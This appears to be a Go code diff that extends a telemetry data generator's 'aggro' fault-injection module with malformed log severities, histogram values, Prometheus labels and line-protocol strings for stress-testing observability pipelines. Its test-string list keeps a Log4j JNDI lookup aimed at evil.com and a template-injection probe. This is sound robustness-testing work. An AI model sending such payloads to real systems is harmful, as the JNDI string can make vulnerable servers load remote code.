@@ -2,9 +2,11 @@ package aggro
 
 import (
 	_ "embed"
+	"maps"
 	"math"
 	"strconv"
 	"strings"
+	"sync"
 	"time"
 	"unicode/utf8"
 
@@ -15,12 +17,26 @@ import (
 )
 
 type AggroConfig struct {
-	TimestampTarget string // "" = random, "attr_name" = specific
-	NumericTarget   string // "" = random, "attr_name" = specific
-	StringTarget    string // "" = random, "attr_name" = specific
-	TimestampActive bool
-	NumericActive   bool
-	StringActive    bool
+	TimestampTarget    string // "" = random, "attr_name" = specific
+	NumericTarget      string // "" = random, "attr_name" = specific
+	StringTarget       string // "" = random, "attr_name" = specific
+	SeverityTarget     string // "" = random, "number" or "text" = specific
+	HistogramTarget    string // "" = random, "zero-buckets", "overflow" or "wide" = specific
+	TemporalityTarget  string // "" = opposite of the configured temporality, or "cumulative", "delta", "lowmemory"
+	LabelsTarget       string // "" = random, "name" or "value" = specific
+	RemoteWriteTarget  string // "" = random, or one of GetAggroRemoteWriteCases = specific
+	TraceFormatTarget  string // "" = random, or one of GetAggroTraceFormatCases = specific
+	MetricFormatTarget string // "" = random, or one of GetAggroMetricFormatCases = specific
+	TimestampActive    bool
+	NumericActive      bool
+	StringActive       bool
+	SeverityActive     bool
+	HistogramActive    bool
+	TemporalityActive  bool
+	LabelsActive       bool
+	RemoteWriteActive  bool
+	TraceFormatActive  bool
+	MetricFormatActive bool
 }
 
 func ParseAggroConfig(component string) *AggroConfig {
@@ -29,20 +45,67 @@ func ParseAggroConfig(component string) *AggroConfig {
 	timestampFlag := viper.GetString("generate." + component + ".aggro_timestamp")
 	numericFlag := viper.GetString("generate." + component + ".aggro_numeric")
 	stringFlag := viper.GetString("generate." + component + ".aggro_string")
+	severityFlag := viper.GetString("generate." + component + ".aggro_severity")
+	histogramFlag := viper.GetString("generate." + component + ".aggro_histogram")
+	temporalityFlag := viper.GetString("generate." + component + ".aggro_temporality")
+	labelsFlag := viper.GetString("generate." + component + ".aggro_labels")
+	remoteWriteFlag := viper.GetString("generate." + component + ".aggro_remote_write")
+	traceFormatFlag := viper.GetString("generate." + component + ".aggro_trace_format")
+	metricFormatFlag := viper.GetString("generate." + component + ".aggro_metric_format")
 
 	// IsSet detects flag presence regardless of value
 	config.TimestampActive = viper.IsSet("generate." + component + ".aggro_timestamp")
 	config.NumericActive = viper.IsSet("generate." + component + ".aggro_numeric")
 	config.StringActive = viper.IsSet("generate." + component + ".aggro_string")
+	config.SeverityActive = viper.IsSet("generate." + component + ".aggro_severity")
+	config.HistogramActive = viper.IsSet("generate." + component + ".aggro_histogram")
+	config.TemporalityActive = viper.IsSet("generate." + component + ".aggro_temporality")
+	config.LabelsActive = viper.IsSet("generate." + component + ".aggro_labels")
+	config.RemoteWriteActive = viper.IsSet("generate." + component + ".aggro_remote_write")
+	config.TraceFormatActive = viper.IsSet("generate." + component + ".aggro_trace_format")
+	config.MetricFormatActive = viper.IsSet("generate." + component + ".aggro_metric_format")
 
 	config.TimestampTarget = timestampFlag
 	config.NumericTarget = numericFlag
 	config.StringTarget = stringFlag
+	config.SeverityTarget = severityFlag
+	config.HistogramTarget = histogramFlag
+	config.TemporalityTarget = temporalityFlag
+	config.LabelsTarget = labelsFlag
+	config.RemoteWriteTarget = remoteWriteFlag
+	config.TraceFormatTarget = traceFormatFlag
+	config.MetricFormatTarget = metricFormatFlag
 
 	return config
 }
 
+// Number of aggro values injected so far, per category
+var (
+	injectionsMu sync.Mutex
+	injections   = make(map[string]int64)
+)
+
+// RecordInjection counts one injected aggro value of a category, for aggro applied here and by the generators
+func RecordInjection(category string) {
+	injectionsMu.Lock()
+	defer injectionsMu.Unlock()
+	injections[category]++
+}
+
+// Injections returns the number of aggro values injected so far, per category (string, numeric,
+// timestamp, value, severity, histogram, temporality, labels, remote_write, trace_format and metric_format)
+func Injections() map[string]int64 {
+	injectionsMu.Lock()
+	defer injectionsMu.Unlock()
+	return maps.Clone(injections)
+}
+
 func (config *AggroConfig) HasAnyActive() bool {
+	return config.TimestampActive || config.NumericActive || config.StringActive || config.SeverityActive || config.HistogramActive || config.TemporalityActive || config.LabelsActive || config.RemoteWriteActive || config.TraceFormatActive || config.MetricFormatActive
+}
+
+// HasValueActive reports whether string, numeric or timestamp aggro is active, the kinds that add aggro values to metric data points
+func (config *AggroConfig) HasValueActive() bool {
 	return config.TimestampActive || config.NumericActive || config.StringActive
 }
 
@@ -74,6 +137,7 @@ func (config *AggroConfig) ApplyAggroToTraceAttributes(attrs []attribute.KeyValu
 			targetKey, modified := config.applyAggroToTraceAttributes(modifiedAttrs, stringValues, config.StringTarget, skipKeys)
 			if modified {
 				metadataAttrs = append(metadataAttrs, attribute.String("aggro.string", targetKey))
+				RecordInjection("string")
 			}
 		}
 	}
@@ -85,6 +149,7 @@ func (config *AggroConfig) ApplyAggroToTraceAttributes(attrs []attribute.KeyValu
 			targetKey, modified := config.applyAggroToTraceAttributes(modifiedAttrs, numericValues, config.NumericTarget, skipKeys)
 			if modified {
 				metadataAttrs = append(metadataAttrs, attribute.String("aggro.numeric", targetKey))
+				RecordInjection("numeric")
 			}
 		}
 	}
@@ -103,6 +168,7 @@ func (config *AggroConfig) ApplyAggroToTraceAttributes(attrs []attribute.KeyValu
 			targetKey, modified := config.applyAggroToTraceAttributes(modifiedAttrs, timestampValues, config.TimestampTarget, skipKeys)
 			if modified {
 				metadataAttrs = append(metadataAttrs, attribute.String("aggro.timestamp", targetKey))
+				RecordInjection("timestamp")
 			}
 		}
 	}
@@ -198,6 +264,7 @@ func (config *AggroConfig) ApplyAggroToLogAttributes(attrs []otellog.KeyValue, l
 			targetKey, modified := config.applyAggroToLogAttributes(modifiedAttrs, &modifiedMessage, stringValues, config.StringTarget, skipKeys)
 			if modified {
 				metadataAttrs = append(metadataAttrs, otellog.String("aggro.string", targetKey))
+				RecordInjection("string")
 			}
 		}
 	}
@@ -209,6 +276,7 @@ func (config *AggroConfig) ApplyAggroToLogAttributes(attrs []otellog.KeyValue, l
 			targetKey, modified := config.applyAggroToLogAttributes(modifiedAttrs, &modifiedMessage, numericValues, config.NumericTarget, skipKeys)
 			if modified {
 				metadataAttrs = append(metadataAttrs, otellog.String("aggro.numeric", targetKey))
+				RecordInjection("numeric")
 			}
 		}
 	}
@@ -227,6 +295,7 @@ func (config *AggroConfig) ApplyAggroToLogAttributes(attrs []otellog.KeyValue, l
 			targetKey, modified := config.applyAggroToLogAttributes(modifiedAttrs, &modifiedMessage, timestampValues, config.TimestampTarget, skipKeys)
 			if modified {
 				metadataAttrs = append(metadataAttrs, otellog.String("aggro.timestamp", targetKey))
+				RecordInjection("timestamp")
 			}
 		}
 	}
@@ -298,6 +367,292 @@ func (config *AggroConfig) applyAggroToLogAttributes(attrs []otellog.KeyValue, l
 	return targetKey, true
 }
 
+// ApplyAggroToLogSeverity replaces the severity number or severity text of a log record with edge cases
+// Returns the modified severity, modified text, and metadata attributes about what was changed
+func (config *AggroConfig) ApplyAggroToLogSeverity(severity otellog.Severity, severityText string) (otellog.Severity, string, []otellog.KeyValue) {
+	if !config.SeverityActive {
+		return severity, severityText, nil
+	}
+
+	// Choose which part of the severity to break
+	target := config.SeverityTarget
+	if target == "" {
+		target = random.RandomChoice([]string{"number", "text"})
+	}
+
+	switch target {
+	case "number":
+		severity = random.RandomChoice(GetAggroSeverities())
+	case "text":
+		severityText = random.RandomChoice(GetAggroSeverityTexts())
+	default:
+		// Unknown target, skip
+		return severity, severityText, nil
+	}
+
+	RecordInjection("severity")
+	return severity, severityText, []otellog.KeyValue{otellog.String("aggro.severity", target)}
+}
+
+// GetAggroSeverities returns severity numbers outside of, or on the edges of, the OTel 1-24 range
+func GetAggroSeverities() []otellog.Severity {
+	return []otellog.Severity{
+		0,   // Undefined
+		-1,  // Negative
+		25,  // Just past FATAL4
+		100, // Far out of range
+		255, // uint8 max
+		256, // uint8 overflow
+		math.MaxInt32,
+		math.MinInt32,
+	}
+}
+
+// GetAggroSeverityTexts returns severity texts that are empty, unknown or hostile to parsers
+func GetAggroSeverityTexts() []string {
+	return []string{
+		"",                        // Empty
+		" ",                       // Whitespace only
+		"info ",                   // Trailing whitespace
+		"iNfO",                    // Mixed case
+		"WARNING!!!",              // Punctuation
+		"ERROR\\nFATAL",           // Escaped newline
+		"ERROR\nFATAL",            // Embedded newline
+		"42",                      // Numeric text
+		"-1",                      // Negative numeric text
+		"UNDEFINED",               // OTel undefined name
+		"FATAL5",                  // Beyond FATAL4
+		"🔥",                       // Emoji
+		"エラー",                     // Non-Latin
+		strings.Repeat("E", 1024), // Very long
+	}
+}
+
+// ApplyAggroToHistogramValue replaces the i-th value recorded into a histogram with a value that
+// produces an unusual bucket layout. Returns the value to record and metadata attributes naming the case
+func (config *AggroConfig) ApplyAggroToHistogramValue(value float64, i int) (float64, []attribute.KeyValue) {
+	if !config.HistogramActive {
+		return value, nil
+	}
+
+	target := config.HistogramTarget
+	if target == "" {
+		target = random.RandomChoice(GetAggroHistogramCases())
+	}
+
+	switch target {
+	case "zero-buckets":
+		// Alternate between two distant values so every bucket in between stays empty
+		if i%2 == 0 {
+			value = 1
+		} else {
+			value = 1e6
+		}
+	case "overflow":
+		// Above any realistic explicit boundary, so only the overflow bucket is populated
+		value = 1e12 + float64(i)
+	case "wide":
+		value = random.RandomChoice(GetAggroHistogramValues())
+	default:
+		// Unknown target, skip
+		return value, nil
+	}
+
+	RecordInjection("histogram")
+	return value, []attribute.KeyValue{attribute.String("aggro.histogram", target)}
+}
+
+// GetAggroHistogramCases returns the supported histogram aggro cases
+func GetAggroHistogramCases() []string {
+	return []string{"zero-buckets", "overflow", "wide"}
+}
+
+// GetAggroHistogramValues returns values spanning an extremely wide range, including signed zeros,
+// subnormals and values whose sum overflows
+func GetAggroHistogramValues() []float64 {
+	return []float64{
+		0,
+		math.Copysign(0, -1),        // Negative zero
+		math.SmallestNonzeroFloat64, // Subnormal
+		1e-300,
+		1e-9,
+		1,
+		1e9,
+		1e300,
+		math.MaxFloat64, // Sum overflows to +Inf after two samples
+		-1,              // Negative values are unusual for histograms
+		-1e300,
+	}
+}
+
+// AlternateTemporality returns the temporality used for the second resource when mixing temporalities
+// for the same metric name. Without a target it is the opposite of the configured temporality
+func (config *AggroConfig) AlternateTemporality(configured string) string {
+	RecordInjection("temporality")
+	if config.TemporalityTarget != "" {
+		return config.TemporalityTarget
+	}
+	if configured == "delta" || configured == "lowmemory" {
+		return "cumulative"
+	}
+	return "delta"
+}
+
+// AggroLabel returns an extra label for a Prometheus series with an invalid or unusual name, or a value
+// that needs escaping. Labels are written as is, so scrapers see what a misbehaving exporter would send
+func (config *AggroConfig) AggroLabel() (string, string, bool) {
+	if !config.LabelsActive {
+		return "", "", false
+	}
+
+	target := config.LabelsTarget
+	if target == "" {
+		target = random.RandomChoice([]string{"name", "value"})
+	}
+
+	switch target {
+	case "name":
+		RecordInjection("labels")
+		return random.RandomChoice(GetAggroLabelNames()), "aggro", true
+	case "value":
+		RecordInjection("labels")
+		return "aggro_label", random.RandomChoice(GetAggroLabelValues()), true
+	}
+	// Unknown target, skip
+	return "", "", false
+}
+
+// GetAggroLabelNames returns label names that are invalid or reserved in the Prometheus exposition formats
+func GetAggroLabelNames() []string {
+	return []string{
+		"0starts_with_digit",
+		"__reserved",  // Reserved for internal use
+		"__name__",    // Clashes with the metric name
+		"le",          // Clashes with histogram buckets
+		"quantile",    // Clashes with summary quantiles
+		"dotted.name", // Valid in OTel, not in the classic format
+		"dash-name",
+		"with space",
+		"ünïcödé",
+		"job",                     // Overwritten by the scraper
+		"instance",                // Overwritten by the scraper
+		strings.Repeat("l", 1024), // Very long
+	}
+}
+
+// GetAggroLabelValues returns label values that need escaping or stress parsers
+func GetAggroLabelValues() []string {
+	return []string{
+		"", // Empty value, the same as a missing label
+		`with "quotes"`,
+		`back\slash`,
+		"new\nline",
+		"carriage\rreturn",
+		"trailing\\",
+		"}{",
+		`a="b",c="d"`, // Looks like more labels
+		"\xff\xfe",    // Invalid UTF-8
+		"\x00null",
+		"🔥",
+		strings.Repeat("V", 4096), // Very long
+	}
+}
+
+// AggroRemoteWriteCase returns the remote-write fault to put in the next request
+func (config *AggroConfig) AggroRemoteWriteCase() (string, bool) {
+	if !config.RemoteWriteActive {
+		return "", false
+	}
+	RecordInjection("remote_write")
+	if config.RemoteWriteTarget != "" {
+		return config.RemoteWriteTarget, true
+	}
+	return random.RandomChoice(GetAggroRemoteWriteCases()), true
+}
+
+// GetAggroRemoteWriteCases returns the supported remote-write aggro cases
+func GetAggroRemoteWriteCases() []string {
+	return []string{"out-of-order", "duplicate-timestamp", "unsorted-labels", "duplicate-labels", "stale"}
+}
+
+// AggroTraceFormatCase returns the Zipkin or Jaeger format fault to put in the next export
+func (config *AggroConfig) AggroTraceFormatCase() (string, bool) {
+	if !config.TraceFormatActive {
+		return "", false
+	}
+	RecordInjection("trace_format")
+	if config.TraceFormatTarget != "" {
+		return config.TraceFormatTarget, true
+	}
+	return random.RandomChoice(GetAggroTraceFormatCases()), true
+}
+
+// GetAggroTraceFormatCases returns the supported Zipkin and Jaeger format aggro cases
+func GetAggroTraceFormatCases() []string {
+	return []string{"64-bit-ids", "missing-local-endpoint", "annotation-only"}
+}
+
+// AggroMetricFormatCase returns the StatsD, InfluxDB or Graphite format fault to put in the next export
+func (config *AggroConfig) AggroMetricFormatCase() (string, bool) {
+	if !config.MetricFormatActive {
+		return "", false
+	}
+	RecordInjection("metric_format")
+	if config.MetricFormatTarget != "" {
+		return config.MetricFormatTarget, true
+	}
+	return random.RandomChoice(GetAggroMetricFormatCases()), true
+}
+
+// GetAggroMetricFormatCases returns the supported StatsD, InfluxDB and Graphite format aggro cases
+func GetAggroMetricFormatCases() []string {
+	return []string{"tag-escaping", "sample-rate", "name-sanitization"}
+}
+
+// GetAggroMetricNames returns metric names the line protocols have to sanitize or escape
+func GetAggroMetricNames() []string {
+	return []string{
+		"with space",
+		"with,comma",
+		"colon:pipe|at@",    // StatsD separators
+		"semi;colon=equals", // Graphite tag separators
+		"back\\slash",
+		"new\nline",
+		"..double..dots..", // Empty Graphite path segments
+		"trailing.",
+		"ünïcödé.metric",
+		"#hash",
+		"\"quoted\"",
+		strings.Repeat("m", 1024), // Very long
+	}
+}
+
+// GetAggroTagStrings returns tag keys and values built from the separators and escape characters of
+// StatsD, DogStatsD, InfluxDB line protocol and Graphite
+func GetAggroTagStrings() []string {
+	return []string{
+		"a,b",        // Tag separator in DogStatsD and InfluxDB
+		"a=b",        // Key-value separator in InfluxDB and Graphite
+		"a:b:c",      // Key-value separator in DogStatsD, only the first one splits
+		"a|b",        // Field separator in StatsD
+		"a#b",        // Tag section marker in DogStatsD
+		"a;b",        // Tag separator in Graphite
+		"a~b",        // Not allowed in Graphite tag values
+		"with space", // Field separator in InfluxDB and Graphite
+		"trailing\\", // Escape character at the end
+		"\\,\\=\\ ",  // Already escaped
+		"\"quoted\"",
+		"new\nline", // Line separator in every protocol
+		"",          // Empty tag value
+		"ünïcödé",
+	}
+}
+
+// GetAggroSampleRates returns StatsD sample rates outside (0, 1] or unusual in form
+func GetAggroSampleRates() []string {
+	return []string{"0", "-1", "1.5", "0.0000001", "1e-3", "NaN", ".5", "abc"}
+}
+
 // ====== BLNS =======
 //
 //go:embed blns.txt
@@ -429,6 +784,12 @@ func GetAggroStrings() []string {
 		"${jndi:ldap://evil.com/}",      // Log4j injection attempt
 		"{{7*7}}",                       // Template injection attempt
 
+		// Line protocol separators (StatsD, InfluxDB, Graphite)
+		"metric:1|c",
+		"cpu,host=a value=1",
+		"a.b;tag=value 1 0",
+		"tag:value|#k:v,k2",
+
 		// Encoding confusion
 		"caf\xE9",      // Latin-1 é
 		"caf\xC3\xA9",  // UTF-8 é